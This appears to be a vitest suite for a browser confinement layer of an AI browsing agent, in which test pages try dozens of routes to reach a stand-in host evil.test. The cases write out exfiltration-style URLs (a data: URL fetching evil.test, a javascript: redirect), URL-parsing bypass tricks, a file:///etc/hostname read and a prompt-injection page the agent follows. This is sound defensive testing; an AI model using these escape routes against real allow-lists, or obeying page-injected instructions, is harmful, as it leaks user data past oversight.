/**
 * The adversarial suite against the full confinement (docs/specification.md#the-allow-list) (all layers, as the browser
 * adapter wires them): pages on allowed.test try every path to evil.test we know of. Blocked
 * means: evil saw nothing carrying the case token, the attempt was reported (where a request was
 * made at all), and no page or frame shows anything from evil.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { BlockLayer, BlockedRequest } from '../../../src/browser/types.js';
import { CONFINEMENT_BROWSERS, fixtureUrl, openCase, startHarness, visibleText, type CaseRun, type Harness } from '../../fixtures/confinement/harness.js';

/** The harness of the browser whose suite is running (the cases read its UDP listener). */
let harness: Harness;

interface Case {
  name: string;
  allowedDomains?: string[];
  run(c: CaseRun): Promise<void>;
  /** Layers allowed to have refused the token's requests (checked when any was reported). */
  layers?: BlockLayer[];
  /** The attempt needs a secure context, which only full Chromium can fake for the fixture site. */
  secureContext?: true;
}

/** Opens a fixture and waits for the refusal of a request carrying the token. */
const blockedPage = (name: string, fixture: string, extra: Record<string, string> = {}, layers?: BlockLayer[]): Case => ({
  name,
  layers,
  run: async (c) => {
    await c.navigate(fixtureUrl(fixture, c.token, extra));
    await c.waitBlocked();
  },
});

/** Opens a fixture and waits for its own completion signal (nothing may even be sent). */
const donePage = (name: string, fixture: string, extra: Record<string, string> = {}): Case => ({
  name,
  run: async (c) => {
    await c.navigate(fixtureUrl(fixture, c.token, extra));
    await c.waitDone();
  },
});

const refusedByNavigateTool = (name: string, url: (token: string) => string): Case => ({
  name,
  layers: ['navigate-tool'],
  run: async (c) => {
    const target = url(c.token);
    const result = await c.navigate(target);
    expect(result.ok).toBe(false);
    expect(c.blocked).toContainEqual(expect.objectContaining({ layer: 'navigate-tool', url: target }));
    expect(c.page.url()).toBe('about:blank');
  },
});

const redirectTo = (status: number, path: string, token: string): string =>
  `http://allowed.test/redirect?status=${status}&to=${encodeURIComponent(`http://evil.test/${path}?t=${token}`)}`;

async function waitPopupClosed(c: CaseRun): Promise<void> {
  await c.waitBlocked((e) => e.layer === 'popup');
  const pages = c.context.pages();
  await Promise.all(pages.slice(1).map((p) => (p.isClosed() ? undefined : p.waitForEvent('close'))));
  expect(c.context.pages()).toHaveLength(1);
}

const IP_SPELLINGS = ['2130706433', '0x7f000001', '0177.0.0.1', '127.1', '127.0.0.1', '0x7f.0.0.1', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::1]'];

const CASES: Case[] = [
  {
    name: 'redirect-302-page',
    // Playwright routes a request once, not its redirect hops: the proxy refuses the hop.
    layers: ['proxy'],
    run: async (c) => {
      await c.navigate(redirectTo(302, 'redirect-302-page', c.token));
      await c.waitBlocked();
    },
  },
  {
    name: 'redirect-307-page',
    layers: ['proxy'],
    run: async (c) => {
      await c.navigate(redirectTo(307, 'redirect-307-page', c.token));
      await c.waitBlocked();
    },
  },
  blockedPage('redirect-img', 'redirect-img', {}, ['proxy']),
  blockedPage('redirect-fetch-307', 'redirect-fetch', {}, ['proxy']),
  blockedPage('js-location', 'js-location'),
  blockedPage('meta-refresh', 'meta-refresh'),
  blockedPage('form-post', 'form-post'),
  {
    name: 'window-open',
    run: async (c) => {
      await c.navigate(fixtureUrl('window-open', c.token));
      await c.waitBlocked();
      await waitPopupClosed(c);
    },
  },
  {
    name: 'target-blank-link',
    run: async (c) => {
      await c.navigate(fixtureUrl('target-blank', c.token));
      await c.waitDone();
      await c.page.click('#go');
      await c.waitBlocked();
      await waitPopupClosed(c);
    },
  },
  blockedPage('iframe', 'iframe'),
  blockedPage('fetch', 'fetch'),
  blockedPage('xhr', 'xhr'),
  ...['beacon-pagehide', 'keepalive-pagehide'].map(
    (fixture): Case => ({
      name: fixture,
      run: async (c) => {
        await c.navigate(fixtureUrl(fixture, c.token));
        await c.waitDone();
        // Leaving the page fires pagehide, which sends the beacon.
        await c.navigate(fixtureUrl('blank', `${c.token}-next`));
        await c.waitBlocked();
      },
    }),
  ),
  blockedPage('eventsource', 'eventsource'),
  {
    name: 'a-ping',
    run: async (c) => {
      await c.navigate(fixtureUrl('a-ping', c.token));
      await c.page.click('#go');
      // The link leads to blank.html, which reports done with the same token.
      await c.waitDone();
    },
  },
  blockedPage('css-url', 'css-url'),
  donePage('link-prefetch', 'link-prefetch'),
  donePage('speculation-rules', 'speculation-rules'),
  blockedPage('websocket-page', 'ws-page', {}, ['websocket', 'request-guard', 'proxy']),
  blockedPage('websocket-dedicated-worker', 'ws-worker'),
  {
    // A tunnel's CONNECT line carries no path, so the proxy's refusal names only the host.
    name: 'websocket-shared-worker',
    run: async (c) => {
      await c.navigate(fixtureUrl('ws-shared-worker', c.token));
      await c.waitBlocked((e) => e.url.includes('evil.test'));
    },
  },
  {
    name: 'service-worker-fetch',
    layers: ['service-worker', 'request-guard', 'proxy'],
    secureContext: true,
    run: async (c) => {
      await c.navigate(fixtureUrl('sw-fetch', c.token));
      await c.waitDone();
      await c.waitBlocked((e) => e.layer === 'service-worker');
    },
  },
  {
    name: 'webrtc-stun-ip-literal',
    run: async (c) => {
      await c.navigate(fixtureUrl('webrtc', c.token));
      await c.waitDone();
      expect(harness.udp.packets).toEqual([]);
    },
  },
  ...IP_SPELLINGS.map((host) => blockedPage(`ip-literal-${host}`, 'ip-literal', { host })),
  blockedPage('userinfo-navigation', 'navigate-to', { u: 'http://allowed.test@evil.test/userinfo' }),
  // Chromium itself refuses subresource URLs with credentials: nothing may even be sent.
  donePage('userinfo-subresource', 'probe', { u: 'http://allowed.test:x@evil.test/userinfo-img' }),
  blockedPage('backslash-navigation', 'navigate-to', { u: 'http://evil.test\\@allowed.test/backslash' }),
  blockedPage('backslash-subresource', 'probe', { u: 'http:\\\\evil.test\\backslash-img' }),
  blockedPage('trailing-dot', 'probe', { u: 'http://evil.test./trailing-dot' }),
  blockedPage('uppercase', 'probe', { u: 'http://EVIL.TEST/uppercase' }),
  blockedPage('idn-lookalike', 'probe', { u: 'http://аllowed.test/lookalike' }),
  blockedPage('prefix-joined-name', 'probe', { u: 'http://evilallowed.test/prefix' }),
  blockedPage('allowed-as-subdomain-of-evil', 'probe', { u: 'http://allowed.test.evil.test/suffix' }),
  {
    // localhost is listed, but it resolves to loopback and no host rule maps it: the proxy refuses.
    ...blockedPage('allowed-name-private-address', 'ip-literal', { host: 'localhost' }, ['proxy']),
    allowedDomains: ['allowed.test', 'localhost'],
  },
  // A name listed with its port reaches no other port of the same host (Redis on 6379, say).
  { ...blockedPage('port-not-listed-subresource', 'probe', { u: 'http://allowed.test:6379/port' }), allowedDomains: ['allowed.test:80'] },
  { ...blockedPage('port-not-listed-navigation', 'navigate-to', { u: 'http://allowed.test:8080/port' }), allowedDomains: ['allowed.test:80'] },
  { ...refusedByNavigateTool('port-not-listed-navigate-tool', (t) => `http://allowed.test:6379/model?t=${t}`), allowedDomains: ['allowed.test:80'] },
  refusedByNavigateTool('data-url-navigate-tool', (t) => `data:text/html,<script>fetch("http://evil.test/data?t=${t}")</script>`),
  {
    name: 'data-url-top-level-from-page',
    run: async (c) => {
      await c.navigate(fixtureUrl('data-nav', c.token));
      await c.waitDone();
      await c.page.waitForLoadState();
    },
  },
  {
    name: 'blob-url-top-level',
    run: async (c) => {
      await c.navigate(fixtureUrl('blob-nav', c.token));
      await c.waitBlocked((e) => e.url.startsWith('blob:'));
      await c.page.waitForURL('about:blank');
    },
  },
  refusedByNavigateTool('javascript-url', (t) => `javascript:location='http://evil.test/js?t=${t}'`),
  refusedByNavigateTool('file-url', () => 'file:///etc/hostname'),
  refusedByNavigateTool('chrome-url', () => 'chrome://version'),
  donePage('local-schemes-from-page', 'local-schemes'),
  refusedByNavigateTool('model-navigate-to-evil', (t) => `http://evil.test/model?t=${t}`),
  refusedByNavigateTool('model-navigate-to-evil-spelled', (t) => `HTTP://allowed.test@EVIL.test./model?t=${t}`),
  {
    name: 'prompt-injection',
    run: async (c) => {
      await c.navigate(fixtureUrl('prompt-injection', c.token));
      await c.waitDone();
      // The agent does what the page says: navigate to the URL in the text, then click the link.
      const text = await c.page.textContent('#inj');
      const injected = /https?:\/\/\S+/.exec(text ?? '')?.[0] ?? '';
      expect(injected).toContain(c.token);
      expect((await c.navigate(injected)).ok).toBe(false);
      await c.page.click('#go');
      await c.waitBlocked((e) => e.url.includes('injection-link'));
    },
  },
  {
    name: 'download',
    layers: ['download', 'request-guard'],
    run: async (c) => {
      await c.navigate(fixtureUrl('download', c.token));
      await c.waitDone();
      await c.page.click('#go');
      await c.waitBlocked((e) => e.layer === 'download');
    },
  },
  {
    name: 'remote-debugging-port',
    run: async (c) => {
      // Playwright talks to Chromium over a pipe; no flag of ours opens a debugging port.
      expect(harness.confinement.launchArgs().some((a) => a.startsWith('--remote-debugging'))).toBe(false);
      await c.navigate(fixtureUrl('probe', c.token, { u: 'http://127.0.0.1:9222/json/version' }));
      await c.waitBlocked();
    },
  },
];

describe.each(CONFINEMENT_BROWSERS)('confinement: adversarial pages against all layers ($name)', (browser) => {
  beforeAll(async () => {
    harness = await startHarness({ confined: true, executablePath: browser.executablePath });
  });

  afterAll(async () => {
    await harness?.close();
  });

  const cases = CASES.filter((c) => browser.secureContext || !c.secureContext);

  it('has at least 30 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
  });

  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, testCase) => {
    const c = await openCase(harness, { name: testCase.name, mode: 'full', allowedDomains: testCase.allowedDomains });
    try {
      await testCase.run(c);
      const shown = await visibleText(c.context);
      expect(shown).not.toContain('EVIL-CONTENT');
      const tokenEvents: BlockedRequest[] = c.blocked.filter((e) => e.url.includes(c.token));
      if (testCase.layers) for (const event of tokenEvents) expect(testCase.layers).toContain(event.layer);
      for (const url of c.topLevelUrls) {
        // A refused http(s) navigation shows Chromium's error page under the refused URL (its
        // content is checked above); documents of local schemes must never stay.
        expect(url, 'a page committed a forbidden top-level document').not.toMatch(/^(data:|file:|chrome:|javascript:|view-source:)/);
      }
    } finally {
      await c.finish();
    }
    expect(harness.evil.hitsWith(c.token)).toEqual([]);
  });

  it('evil heard nothing at all and no UDP packet arrived', () => {
    expect(harness.evil.hits).toEqual([]);
    expect(harness.udp.packets).toEqual([]);
  });
});
